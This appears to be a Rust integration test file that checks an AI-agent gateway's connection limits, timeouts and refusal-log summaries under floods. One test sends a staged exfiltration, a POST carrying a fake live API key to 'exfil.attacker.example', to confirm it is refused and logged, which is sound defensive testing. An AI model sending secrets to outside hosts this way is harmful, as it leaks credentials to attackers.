//! Keeps serving under abuse (SPEC §14.7 "Limits"): silent sockets, HTTP/2 connections that
//! send only the preface, idle keep-alives, silent CONNECT tunnels past the connection cap with
//! a low open-file limit, and a flood of refusals from one agent. Each flood runs for a few
//! seconds while a normal client keeps being served within a bound, and the test checks that
//! the gateway closed what it should within the configured timeout plus a margin.
//!
//! Connection floods run against the real binary in a child process (its open-file limit set
//! with `ulimit -n`, i.e. setrlimit in the child only); the refusal flood runs in-process.

use crate::support::*;
use serde_json::Value;
use std::collections::{HashMap, HashSet};
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use uapk_gateway::limits::refusals::ids_sha256;

/// Times an allowed request through the base URL.
async fn allowed(proxy: SocketAddr, tok: &str) -> (u16, Duration) {
    let t = Instant::now();
    let r = client()
        .get(format!("http://{proxy}/shop/v1/charges/ch_1"))
        .header("x-uapk-capability", tok)
        .timeout(Duration::from_secs(5))
        .send()
        .await;
    let status = match r {
        Ok(r) => r.status().as_u16(),
        Err(e) => {
            eprintln!("allowed request failed: {e:?}");
            0
        }
    };
    (status, t.elapsed())
}

async fn livez(admin: SocketAddr) -> (u16, Duration) {
    let t = Instant::now();
    let r = client().get(format!("http://{admin}/livez")).timeout(Duration::from_secs(5)).send().await;
    (r.map(|r| r.status().as_u16()).unwrap_or(0), t.elapsed())
}

/// Spawns a watcher per stream that reads (and discards) until the peer closes, and returns
/// how long after `since` each was closed, or `None` if still open after `give_up`.
fn watch_closes(
    streams: Vec<(TcpStream, Instant)>,
    give_up: Duration,
) -> Vec<tokio::task::JoinHandle<Option<Duration>>> {
    streams
        .into_iter()
        .map(|(mut s, since)| {
            tokio::spawn(async move {
                let mut buf = [0u8; 1024];
                let until = since + give_up;
                loop {
                    let left = until.saturating_duration_since(Instant::now());
                    match tokio::time::timeout(left, s.read(&mut buf)).await {
                        Ok(Ok(0)) | Ok(Err(_)) => return Some(since.elapsed()),
                        Ok(Ok(_)) => continue,
                        Err(_) => return None,
                    }
                }
            })
        })
        .collect()
}

fn assert_all_closed_within(what: &str, closes: &[Option<Duration>], low: Duration, high: Duration) {
    let open = closes.iter().filter(|c| c.is_none()).count();
    assert_eq!(open, 0, "{what}: {open} of {} connections were still open after {high:?}", closes.len());
    for c in closes.iter().flatten() {
        assert!(*c >= low && *c <= high, "{what}: closed after {c:?}, expected between {low:?} and {high:?}");
    }
}

/// Sends `GET path` with `tok` on the keep-alive connection `s` and reads its whole response (it
/// ends with the upstream's JSON echo); the connection must stay open.
async fn keepalive_get(s: &mut TcpStream, path: &str, tok: &str) -> String {
    let head = format!("GET {path} HTTP/1.1\r\nHost: gw\r\nx-uapk-capability: {tok}\r\n\r\n");
    s.write_all(head.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    let mut b = [0u8; 4096];
    while !got.ends_with(b"}") {
        let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut b)).await.unwrap().unwrap();
        assert!(n > 0, "the keep-alive was closed before its response to {path}");
        got.extend_from_slice(&b[..n]);
    }
    String::from_utf8_lossy(&got).into_owned()
}

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_preface_only_and_idle_connections_are_closed_while_agents_are_served() {
    let up = Upstream::start().await;
    let mut gw = ChildGateway::start(
        &[("pay.yaml", manifest("pay-agent", up.addr, POLICY, ""))],
        "admin:\n  max_connections: 64\nlimits:\n  header_read_timeout: 1s\n  idle_timeout: 2s\n  max_connections: 1000\n",
        None,
    )
    .await;
    let tok = token("pay-agent");
    assert_eq!(allowed(gw.proxy, &tok).await.0, 200);

    // 300 silent sockets and 40 HTTP/2 connections that send only the preface on the proxy
    // listener, 30 silent sockets on the admin listener, 20 keep-alives idle after one request.
    let mut silent = Vec::new();
    for _ in 0..300 {
        silent.push((TcpStream::connect(gw.proxy).await.unwrap(), Instant::now()));
    }
    let mut preface = Vec::new();
    for _ in 0..40 {
        let mut s = TcpStream::connect(gw.proxy).await.unwrap();
        let t = Instant::now();
        s.write_all(H2_PREFACE).await.unwrap();
        preface.push((s, t));
    }
    let mut admin_silent = Vec::new();
    for _ in 0..30 {
        admin_silent.push((TcpStream::connect(gw.admin).await.unwrap(), Instant::now()));
    }
    let mut idle = Vec::new();
    for _ in 0..20 {
        let mut s = TcpStream::connect(gw.proxy).await.unwrap();
        let text = keepalive_get(&mut s, "/shop/v1/charges/ch_2", &tok).await.to_ascii_lowercase();
        assert!(text.starts_with("http/1.1 200"), "{text}");
        assert!(text.contains("content-length:") && !text.contains("chunked"), "the length is kept: {text}");
        idle.push((s, Instant::now()));
    }
    let silent_w = watch_closes(silent, Duration::from_secs(5));
    let preface_w = watch_closes(preface, Duration::from_secs(5));
    let admin_w = watch_closes(admin_silent, Duration::from_secs(5));
    let idle_w = watch_closes(idle, Duration::from_secs(6));

    // While they are held, agents and health checks are answered promptly.
    for _ in 0..4 {
        let (status, took) = allowed(gw.proxy, &tok).await;
        assert_eq!(status, 200);
        assert!(took < Duration::from_secs(1), "an allowed request took {took:?} during the flood");
        let (status, took) = livez(gw.admin).await;
        assert_eq!(status, 200);
        assert!(took < Duration::from_secs(1), "/livez took {took:?} during the flood");
        tokio::time::sleep(Duration::from_millis(150)).await;
    }

    // A connection that sends nothing, or only the HTTP/2 preface, is closed after
    // header_read_timeout (1 s); a keep-alive with no request in flight after idle_timeout (2 s).
    let margin = Duration::from_millis(1500);
    let s = join_all(silent_w).await;
    assert_all_closed_within("silent proxy sockets", &s, Duration::from_millis(900), Duration::from_secs(1) + margin);
    let p = join_all(preface_w).await;
    assert_all_closed_within("HTTP/2 preface only", &p, Duration::from_millis(900), Duration::from_secs(1) + margin);
    let a = join_all(admin_w).await;
    assert_all_closed_within("silent admin sockets", &a, Duration::from_millis(900), Duration::from_secs(1) + margin);
    let i = join_all(idle_w).await;
    assert_all_closed_within("idle keep-alives", &i, Duration::from_millis(900), Duration::from_secs(2) + margin);

    // A keep-alive that keeps sending requests is never idle, so never closed.
    let mut busy = TcpStream::connect(gw.proxy).await.unwrap();
    for n in 0..6 {
        let got = keepalive_get(&mut busy, &format!("/shop/v1/charges/busy{n}"), &tok).await;
        assert!(got.starts_with("HTTP/1.1 200"), "{got}");
        tokio::time::sleep(Duration::from_millis(700)).await;
    }
    assert_eq!(allowed(gw.proxy, &tok).await.0, 200);
    let (_, log) = gw.stop();
    assert!(!log.contains("accept failed"), "{log}");
}

/// A manifest with a base-URL connector to `up` and a passthrough connector to `pinned`.
fn tunnel_manifest(agent: &str, up: SocketAddr, pinned: SocketAddr) -> String {
    let head = manifest_head(agent, "");
    format!(
        r#"{head}connectors:
  - name: shop
    base_url: http://{up}
    routes:
      - methods: [GET]
        path: /v1/charges/**
        action: payment.read
  - name: pinned
    hosts: [127.0.0.1]
    ports: [{port}]
    tls: passthrough
"#,
        port = pinned.port()
    )
}

/// A TCP server that accepts connections and never sends a byte (the far end of a silent
/// passthrough tunnel).
async fn silent_server() -> SocketAddr {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = l.accept().await {
            held.push(s);
        }
    });
    addr
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_tunnels_past_the_cap_under_a_low_open_file_limit_leave_health_and_agents_answered() {
    let up = Upstream::start().await;
    let pinned = silent_server().await;
    // 256 descriptors: the cap is lowered to what they can hold ((256 - 64 - 16) / 2 = 88
    // connections) next to the admin listener's 16.
    let mut gw = ChildGateway::start(
        &[("flood.yaml", tunnel_manifest("flood-agent", up.addr, pinned))],
        "admin:\n  max_connections: 16\nlimits:\n  header_read_timeout: 2s\n  tunnel_idle_timeout: 3s\n",
        Some(256),
    )
    .await;
    assert!(gw.log().contains("limits.max_connections lowered"), "{}", gw.log());
    let tok = token("flood-agent");
    assert_eq!(allowed(gw.proxy, &tok).await.0, 200);

    // 150 silent tunnels: the first 88 open, the rest get a fast 503 too_many_connections.
    let mut open = Vec::new();
    let mut refused = 0;
    for _ in 0..150 {
        let started = Instant::now();
        let (s, head) = connect(gw.proxy, &pinned.to_string(), &tok).await;
        let took = started.elapsed();
        if head.starts_with("HTTP/1.1 200") {
            open.push((s, Instant::now()));
        } else {
            assert!(head.starts_with("HTTP/1.1 503"), "{head}");
            assert!(head.contains("too_many_connections"), "{head}");
            assert_eq!(body_json(&head)["error"]["code"], "too_many_connections");
            assert!(took < Duration::from_secs(1), "a refusal past the cap took {took:?}");
            refused += 1;
        }
    }
    assert_eq!(open.len(), 88, "tunnels count toward the (lowered) connection cap");
    assert_eq!(refused, 62);
    let watchers = watch_closes(open, Duration::from_secs(7));

    // While the tunnels are held: health answers, and an agent gets a fast answer, not a hang.
    for _ in 0..3 {
        let (status, took) = livez(gw.admin).await;
        assert_eq!(status, 200, "/livez during the tunnel flood");
        assert!(took < Duration::from_secs(1), "/livez took {took:?}");
        let (status, took) = allowed(gw.proxy, &tok).await;
        assert_eq!(status, 503, "past the cap an agent request is refused fast");
        assert!(took < Duration::from_secs(1), "the refusal took {took:?}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // Tunnels with no bytes either way are closed after tunnel_idle_timeout (3 s), which frees
    // their slots: agents are served again.
    let closes = join_all(watchers).await;
    assert_all_closed_within("silent tunnels", &closes, Duration::from_millis(2900), Duration::from_millis(4500));
    let (status, took) = allowed(gw.proxy, &tok).await;
    assert_eq!(status, 200, "after the idle tunnels closed");
    assert!(took < Duration::from_secs(1));

    let (entries, log) = gw.stop();
    let idle_closed = entries
        .iter()
        .filter(|e| e["kind"] == "outcome" && e["tunnel"] == "passthrough")
        .filter(|e| e["error"].as_str().is_some_and(|m| m.contains("tunnel_idle_timeout")))
        .count();
    assert_eq!(idle_closed, 88, "every idle tunnel's outcome says why it was closed");
    // The descriptors never ran out, and refusals past the cap are logged rate-limited.
    assert!(!log.contains("accept failed"), "{log}");
    let cap_lines = log.lines().filter(|l| l.contains("connection cap reached")).count();
    assert!((1..=3).contains(&cap_lines), "{cap_lines} log lines for the connections past the cap:\n{log}");
}

/// Sends `n` GETs on one keep-alive connection, one after the other, and returns each
/// (status, x-uapk-record, x-uapk-request-id).
async fn serial_gets(
    proxy: SocketAddr,
    path: &str,
    tok: Option<&str>,
    n: usize,
) -> Vec<(u16, Option<u64>, Option<String>)> {
    let c = client();
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let mut r = c.get(format!("http://{proxy}{path}"));
        if let Some(t) = tok {
            r = r.header("x-uapk-capability", t);
        }
        let r = r.send().await.unwrap();
        let h = |k: &str| r.headers().get(k).and_then(|v| v.to_str().ok()).map(str::to_string);
        let rec = h("x-uapk-record").and_then(|v| v.parse().ok());
        let id = h("x-uapk-request-id");
        let status = r.status().as_u16();
        if status == 429 {
            assert!(h("retry-after").is_some_and(|v| v.parse::<u64>().is_ok_and(|s| s >= 1)));
            let body: Value = r.json().await.unwrap();
            assert_eq!(body["error"]["code"], "refusals_rate_limited");
        }
        out.push((status, rec, id));
    }
    out
}

/// An integer field of an entry (the log writes integers as decimal strings).
fn num(v: &Value) -> u64 {
    v.as_str().and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("not an integer string: {v}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_flood_from_one_agent_grows_the_log_within_the_bound_and_every_refusal_is_accounted_for() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(
        &[
            ("flood.yaml", manifest("flood-agent", up.addr, POLICY, "")),
            ("calm.yaml", manifest("calm-agent", up.addr, POLICY, "")),
        ],
        "limits:\n  refusals_per_agent: 20/s\n  refusals_burst: 10\n",
    )
    .await;
    let (flood_tok, calm_tok) = (token("flood-agent"), token("calm-agent"));
    let size_before: usize = gw.entries().iter().map(|e| e.to_string().len()).sum();

    // The flood: refused requests with 12 KB paths on 16 connections, each one request after
    // the other as fast as the gateway answers (summarised refusals are answered after a pause),
    // for about three seconds; meanwhile another agent is served and refused normally.
    let long = format!("/shop/v1/nothing/{}", "a".repeat(12 * 1024));
    let started = Instant::now();
    let flood = {
        let (proxy, tok, long) = (gw.proxy, flood_tok.clone(), long.clone());
        tokio::spawn(async move {
            let until = Instant::now() + Duration::from_secs(3);
            let lanes: Vec<_> = (0..16)
                .map(|_| {
                    let (tok, long) = (tok.clone(), long.clone());
                    tokio::spawn(async move {
                        let mut all = Vec::new();
                        while Instant::now() < until {
                            all.extend(serial_gets(proxy, &long, Some(&tok), 5).await);
                        }
                        all
                    })
                })
                .collect();
            join_all(lanes).await.into_iter().flatten().collect::<Vec<_>>()
        })
    };
    let mut calm = Vec::new();
    while !flood.is_finished() {
        let (status, took) = allowed(gw.proxy, &calm_tok).await;
        assert_eq!(status, 200, "the other agent is served during the flood");
        assert!(took < Duration::from_secs(1), "an allowed request took {took:?} during the flood");
        calm.extend(serial_gets(gw.proxy, "/shop/v1/nothing/calm", Some(&calm_tok), 1).await);
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let flood = flood.await.unwrap();
    let elapsed = started.elapsed().as_secs_f64();
    // Unidentified clients share the proxy listener's budget.
    let anon_started = std::time::Instant::now();
    let anon = serial_gets(gw.proxy, "/shop/v1/charges/x", None, 40).await;
    let anon_secs = anon_started.elapsed().as_secs_f64();

    // Summaries are written at most once a second.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let entries = gw.entries();
    let by_idx: HashMap<u64, &Value> =
        entries.iter().filter_map(|e| Some((e["idx"].as_str()?.parse().ok()?, e))).collect();

    // The other agent: every refusal its own entry, nothing summarised.
    assert!(calm.len() >= 5);
    for (status, rec, _) in &calm {
        assert_eq!(*status, 403);
        let e = by_idx[&rec.expect("a record index")];
        assert_eq!(
            (e["agent"].as_str(), e["reasons"][0]["code"].as_str()),
            (Some("calm-agent"), Some("route_not_allowed"))
        );
    }

    // The flooding agent: the burst and the sustained rate are recorded one by one...
    let recorded: Vec<u64> = flood.iter().filter(|(s, ..)| *s == 403).map(|(_, r, _)| r.expect("record")).collect();
    let limited: Vec<&String> =
        flood.iter().filter(|(s, ..)| *s == 429).map(|(.., id)| id.as_ref().expect("id")).collect();
    assert_eq!(recorded.len() + limited.len(), flood.len(), "every refusal is a 403 or a 429");
    // Enough to pass the budget: the burst recorded, the rest summarised (each summarised
    // refusal is answered after a pause, so 16 lanes send far fewer than an unpaused flood).
    assert!(
        recorded.len() >= 10 && limited.len() >= 16,
        "the flood was too light to mean anything ({} recorded, {} summarised)",
        recorded.len(),
        limited.len()
    );
    let max_individual = 10.0 + 20.0 * (elapsed + 1.0);
    assert!(
        (recorded.len() as f64) <= max_individual,
        "{} individual entries in {elapsed:.1}s, more than burst + rate allows ({max_individual})",
        recorded.len()
    );
    for idx in &recorded {
        let e = by_idx[idx];
        assert_eq!((e["agent"].as_str(), e["decision"].as_str()), (Some("flood-agent"), Some("deny")));
    }
    // ...and everything beyond is in summary entries, at most one a second.
    let summaries = summaries_of(&entries, "flood-agent");
    assert!(!summaries.is_empty());
    assert!(summaries.len() as f64 <= elapsed + 2.0, "{} summaries in {elapsed:.1}s", summaries.len());
    let total: u64 = summaries.iter().map(|s| num(&s["count"])).sum();
    assert_eq!(total as usize, limited.len(), "every 429 is counted in a summary");
    // Each summary lists its first ids (in the order the gateway refused them; the flood's
    // lanes interleave) and hashes all of them; together they account for every 429.
    let limited_set: HashSet<&str> = limited.iter().map(|s| s.as_str()).collect();
    let mut listed = HashSet::new();
    for s in &summaries {
        let n = num(&s["count"]) as usize;
        let ids: Vec<&str> = s["request_ids"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
        assert_eq!(ids.len(), n.min(100));
        assert!(ids.iter().all(|id| limited_set.contains(id)), "a summary lists an id no 429 carried");
        assert_eq!(num(&s["request_ids_omitted"]) as usize, n - ids.len());
        if n <= 100 {
            assert_eq!(s["request_ids_sha256"].as_str().unwrap(), ids_sha256(ids.iter().copied()));
        }
        assert_eq!(num(&s["reason_counts"]["route_not_allowed"]) as usize, n);
        listed.extend(ids.iter().map(|s| s.to_string()));
    }
    if limited.len() <= 100 * summaries.len() && summaries.iter().all(|s| num(&s["count"]) <= 100) {
        assert_eq!(listed.len(), limited.len(), "every summarised refusal is listed by its id");
    }
    // The log grew by at most the documented bound: per agent, the burst and then
    // refusals_per_agent entries a second plus one summary a second, each at most 16 KiB
    // (this flood's entries are large: 12 KB paths).
    let size_after: usize = entries.iter().map(|e| e.to_string().len()).sum();
    let grown = size_after - size_before;
    let entries_allowed = (10.0 + 20.0 * (elapsed + 1.0)) + (elapsed + 2.0) + 2.0 * calm.len() as f64 + 60.0;
    let bound = (entries_allowed * 16.0 * 1024.0) as usize;
    assert!(grown <= bound, "the log grew {grown} bytes, more than {bound}");
    assert!(grown < flood.len() * 12 * 1024 / 4, "the flood was not bounded at all ({grown} bytes)");

    // Unidentified clients: the listener's budget, then summarised under the listener.
    let anon_recorded = anon.iter().filter(|(s, rec, _)| *s == 403 && rec.is_some()).count();
    // The burst, plus what 20/s refills while the 40 requests run (slower on a loaded machine).
    let refilled = (20.0 * anon_secs).ceil() as usize + 1;
    assert!((10..=10 + refilled).contains(&anon_recorded), "{anon_recorded} in {anon_secs:.2}s: {anon:?}");
    assert!(anon_recorded < 40, "unidentified refusals were not bounded at all");
    let anon_limited: Vec<&String> =
        anon.iter().filter(|(s, ..)| *s == 429).filter_map(|(.., id)| id.as_ref()).collect();
    assert_eq!(anon_limited.len() + anon_recorded, 40);
    let anon_summaries: Vec<&Value> = entries
        .iter()
        .filter(|e| e["reasons"][0]["code"] == "refusals_rate_limited" && e["listener"] == "proxy")
        .collect();
    let anon_ids: HashSet<&str> = anon_summaries
        .iter()
        .flat_map(|s| s["request_ids"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()))
        .collect();
    for id in anon_limited {
        assert!(anon_ids.contains(id.as_str()), "unidentified refusal {id} is in no summary");
    }
}

/// A ClientHello for `host`, as a real client's first flight.
fn client_hello(host: &str) -> Vec<u8> {
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from(host.to_string()).unwrap();
    let mut conn = rustls::ClientConnection::new(std::sync::Arc::new(cfg), name).unwrap();
    let mut out = Vec::new();
    conn.write_tls(&mut out).unwrap();
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn intercepted_tunnels_must_say_hello_and_finish_the_handshake_in_time() {
    let up = Upstream::start().await;
    let head = manifest_head("tls-agent", "");
    let m = format!(
        r#"{head}connectors:
  - name: secure
    hosts: [localhost]
    ports: [443]
    tls: intercept
    routes:
      - methods: [GET]
        path: /**
        action: item.read
  - name: shop
    base_url: http://{up}
    routes:
      - methods: [GET]
        path: /v1/charges/**
        action: payment.read
"#,
        up = up.addr
    );
    let gw = TestGateway::start(
        &[("tls.yaml", m)],
        "limits:\n  header_read_timeout: 1s\n  tls_handshake_timeout: 3s\n  idle_timeout: 30s\n",
    )
    .await;
    let tok = token("tls-agent");
    let open = |hello: bool| {
        let (proxy, tok) = (gw.proxy, tok.clone());
        async move {
            let (mut s, head) = connect(proxy, "localhost:443", &tok).await;
            assert!(head.starts_with("HTTP/1.1 200"), "{head}");
            let t = Instant::now();
            if hello {
                // A whole ClientHello, then silence: the gateway answers and waits for the
                // client's next flight until tls_handshake_timeout.
                s.write_all(&client_hello("localhost")).await.unwrap();
            }
            (s, t)
        }
    };
    let mut silent = Vec::new();
    let mut stalled = Vec::new();
    for _ in 0..20 {
        silent.push(open(false).await);
        stalled.push(open(true).await);
    }
    let silent_w = watch_closes(silent, Duration::from_secs(4));
    let stalled_w = watch_closes(stalled, Duration::from_secs(6));
    // Meanwhile the gateway serves.
    let r = gw.get("/shop/v1/charges/x", &tok).await;
    assert_eq!(r.status(), 200);
    // No ClientHello within header_read_timeout (1 s): closed.
    let s = join_all(silent_w).await;
    assert_all_closed_within(
        "tunnels without a ClientHello",
        &s,
        Duration::from_millis(900),
        Duration::from_millis(2500),
    );
    // A ClientHello and then nothing: closed after tls_handshake_timeout (3 s), not before.
    let h = join_all(stalled_w).await;
    assert_all_closed_within("stalled TLS handshakes", &h, Duration::from_millis(2900), Duration::from_millis(4500));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_idle_websocket_holds_a_connection_slot_until_tunnel_idle_timeout() {
    // A WebSocket upstream that switches protocols and then never sends a byte.
    let ws = websocket_upstream(false).await;
    let gw = TestGateway::start(
        &[("pay.yaml", manifest("pay-agent", ws, "", ""))],
        "limits:\n  max_connections: 3\n  tunnel_idle_timeout: 2s\n  idle_timeout: 30s\n  header_read_timeout: 5s\n",
    )
    .await;
    let tok = token("pay-agent");
    let mut sockets = Vec::new();
    for _ in 0..3 {
        let mut s = TcpStream::connect(gw.proxy).await.unwrap();
        s.write_all(format!("GET /shop/v1/charges/stream HTTP/1.1\r\nHost: x\r\nConnection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nx-uapk-capability: {tok}\r\n\r\n").as_bytes()).await.unwrap();
        let head = read_head(&mut s).await;
        assert!(head.starts_with("HTTP/1.1 101"), "{head}");
        sockets.push((s, Instant::now()));
    }
    // Three upgraded connections fill a cap of three: the next connection gets a fast 503.
    let t = Instant::now();
    let r = gw.get("/shop/v1/charges/x", &tok).await;
    assert_eq!(r.status(), 503);
    assert!(t.elapsed() < Duration::from_secs(1));
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["reasons"][0]["code"], "too_many_connections");
    // With no bytes either way they are closed after tunnel_idle_timeout, and the slots free.
    let closes = join_all(watch_closes(sockets, Duration::from_secs(5))).await;
    assert_all_closed_within("idle WebSockets", &closes, Duration::from_millis(1900), Duration::from_millis(3500));
    tokio::time::sleep(Duration::from_millis(200)).await;
    let r = gw.get("/shop/v1/charges/x", &tok).await;
    assert_ne!(r.status(), 503, "the slots of the closed WebSockets are free again");
    let outcomes: Vec<Value> = gw
        .entries()
        .into_iter()
        .filter(|e| e["kind"] == "outcome" && e["status"] == "101")
        .filter(|e| e.to_string().contains("tunnel_idle_timeout"))
        .collect();
    assert_eq!(outcomes.len(), 3, "each WebSocket's outcome says it was closed for idleness");
}

/// Sends `n` requests on `lanes` connections at once (each lane one after the other), built by
/// `req(i)`, and returns (i, status, x-uapk-request-id) of each.
async fn concurrently(
    lanes: usize,
    n: usize,
    req: impl Fn(usize) -> reqwest::RequestBuilder + Send + Sync + 'static,
) -> Vec<(usize, u16, Option<String>)> {
    let req = std::sync::Arc::new(req);
    let tasks: Vec<_> = (0..lanes)
        .map(|lane| {
            let req = req.clone();
            tokio::spawn(async move {
                let mut out = Vec::new();
                for i in (lane..n).step_by(lanes) {
                    let r = req(i).send().await.unwrap();
                    let id = r.headers().get("x-uapk-request-id").and_then(|v| v.to_str().ok()).map(str::to_string);
                    out.push((i, r.status().as_u16(), id));
                }
                out
            })
        })
        .collect();
    join_all(tasks).await.into_iter().flatten().collect()
}

/// The refusal summaries of `agent` in the log.
fn summaries_of(entries: &[Value], agent: &str) -> Vec<Value> {
    entries
        .iter()
        .filter(|e| e["kind"] == "decision" && e["reasons"][0]["code"] == "refusals_rate_limited")
        .filter(|e| e["agent"] == agent)
        .cloned()
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_exfiltration_and_payment_inside_a_refusal_flood_are_named_in_the_summary() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(
        &[("flood.yaml", manifest("flood-agent", up.addr, POLICY, ""))],
        "limits:\n  refusals_per_agent: 1/m\n  refusals_burst: 10\n",
    )
    .await;
    let tok = token("flood-agent");

    // 150 junk refusals (the burst recorded, the rest summarised, each answered after a pause).
    let (proxy, t) = (gw.proxy, tok.clone());
    let junk = concurrently(50, 150, move |i| {
        client().get(format!("http://{proxy}/shop/v1/nothing/{i}")).header("x-uapk-capability", &t)
    })
    .await;
    assert_eq!(junk.iter().filter(|(_, s, _)| *s == 403).count(), 10, "the burst is recorded one by one");
    assert_eq!(junk.iter().filter(|(_, s, _)| *s == 429).count(), 140);

    // Then an exfiltration through the explicit proxy to a host no connector allows...
    let secret = format!("secret=sk_live_{}", "9".repeat(40));
    let r = proxied_client(&gw, Some(&tok))
        .post(format!("http://exfil.attacker.example/collect?{secret}"))
        .body("stolen")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 429);
    let exfil_id = r.headers()["x-uapk-request-id"].to_str().unwrap().to_string();
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "refusals_rate_limited");
    // ...and a refund to a denied counterparty.
    let r = client()
        .post(gw.base("/shop/v1/refunds"))
        .header("x-uapk-capability", &tok)
        .header("x-country", "US")
        .json(&serde_json::json!({"amount": 12, "currency": "USD", "customer": "cus_blocked"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 429);
    let refund_id = r.headers()["x-uapk-request-id"].to_str().unwrap().to_string();
    assert_eq!(up.count(), 0, "nothing was forwarded");

    // Summaries are written at most once a second.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let entries = gw.entries();
    assert!(
        !entries.iter().any(|e| e["request_id"] == exfil_id.as_str() || e["request_id"] == refund_id.as_str()),
        "summarised, not recorded one by one"
    );
    let summaries = summaries_of(&entries, "flood-agent");
    let tuples: Vec<&Value> = summaries.iter().flat_map(|s| s["tuples"].as_array().unwrap()).collect();
    // The exfiltration: its host, path and query, under the id its 429 carried.
    let x = tuples.iter().find(|t| t["host"] == "exfil.attacker.example").expect("the exfiltration host is named");
    assert_eq!(
        (x["code"].as_str(), x["method"].as_str(), x["path"].as_str(), x["query"].as_str()),
        (Some("host_not_allowed"), Some("POST"), Some("/collect"), Some(secret.as_str()))
    );
    assert_eq!((x["first_request_id"].as_str(), x["count"].as_str()), (Some(exfil_id.as_str()), Some("1")));
    // The refund: its counterparty and the rest of its params.
    let p = tuples
        .iter()
        .find(|t| t["code"] == "counterparty_denied")
        .unwrap_or_else(|| panic!("the denied refund is listed: {tuples:?}"));
    assert_eq!(
        (p["connector"].as_str(), p["action"].as_str(), p["path"].as_str()),
        (Some("shop"), Some("payment.refund"), Some("/v1/refunds"))
    );
    assert_eq!(p["params"]["counterparty"], "cus_blocked");
    assert_eq!((p["params"]["currency"].as_str(), p["params"]["jurisdiction"].as_str()), (Some("USD"), Some("US")));
    assert_eq!(p["first_request_id"], refund_id.as_str());
    // The junk: one tuple per summary, counting every summarised junk refusal.
    let junk_counted: u64 = tuples.iter().filter(|t| t["code"] == "route_not_allowed").map(|t| num(&t["count"])).sum();
    assert_eq!(junk_counted, 140);
    for s in &summaries {
        assert_eq!(s["dropped_tuples"], "0");
        let listed: u64 = s["tuples"].as_array().unwrap().iter().map(|t| num(&t["count"])).sum();
        assert_eq!(listed, num(&s["count"]), "every refusal of the summary is in one of its tuples");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn distinct_refusals_beyond_the_entry_bound_are_counted_as_dropped_tuples() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(
        &[("flood.yaml", manifest("flood-agent", up.addr, POLICY, ""))],
        "limits:\n  refusals_per_agent: 1/m\n  refusals_burst: 1\n",
    )
    .await;
    let tok = token("flood-agent");
    let label = "l".repeat(60);
    let query = format!("q={}", "v".repeat(900));
    // 121 refusals to distinct hosts with 900-byte queries: far more than 16 KiB of tuples.
    let (proxy, t, l, q) = (gw.proxy, tok.clone(), label.clone(), query.clone());
    let sent = concurrently(60, 121, move |i| {
        let c = reqwest::Client::builder()
            .proxy(reqwest::Proxy::http(format!("http://agent:{t}@{proxy}")).unwrap())
            .build()
            .unwrap();
        c.get(format!("http://h{i}.{l}.{l}.example/x?{q}"))
    })
    .await;
    let limited: HashMap<String, usize> =
        sent.iter().filter(|(_, s, _)| *s == 429).map(|(i, _, id)| (id.clone().unwrap(), *i)).collect();
    assert_eq!(limited.len(), 120);
    tokio::time::sleep(Duration::from_millis(1500)).await;

    let raw = gw.raw_entries();
    let mut dropped_total = 0;
    let mut listed_total = 0;
    for (_, bytes) in &raw {
        let e: Value = serde_json::from_slice(bytes).unwrap();
        if e["reasons"][0]["code"] != "refusals_rate_limited" {
            continue;
        }
        assert!(bytes.len() <= 16 * 1024, "a summary entry of {} bytes", bytes.len());
        assert!(e.get("truncated").is_none_or(|t| t.as_object().unwrap().keys().all(|k| k.starts_with("tuples."))));
        let tuples = e["tuples"].as_array().unwrap();
        for t in tuples {
            // Each listed tuple is the refusal its first request id names, whole.
            let i = limited[t["first_request_id"].as_str().unwrap()];
            assert_eq!(t["host"], format!("h{i}.{label}.{label}.example").as_str());
            assert_eq!((t["query"].as_str(), t["count"].as_str()), (Some(query.as_str()), Some("1")));
        }
        let dropped = num(&e["dropped_tuples"]);
        // One refusal per host: what is not listed is dropped.
        assert_eq!(tuples.len() as u64 + dropped, num(&e["count"]));
        dropped_total += dropped;
        listed_total += tuples.len() as u64;
    }
    assert_eq!(listed_total + dropped_total, 120);
    assert!(dropped_total > 0 && listed_total > 0, "{listed_total} listed, {dropped_total} dropped");
}

/// `manifest` with one more route on connector `shop`: `PUT /v1/files/**` (`files.upload`),
/// which reads no params, so its body streams to the upstream as it arrives.
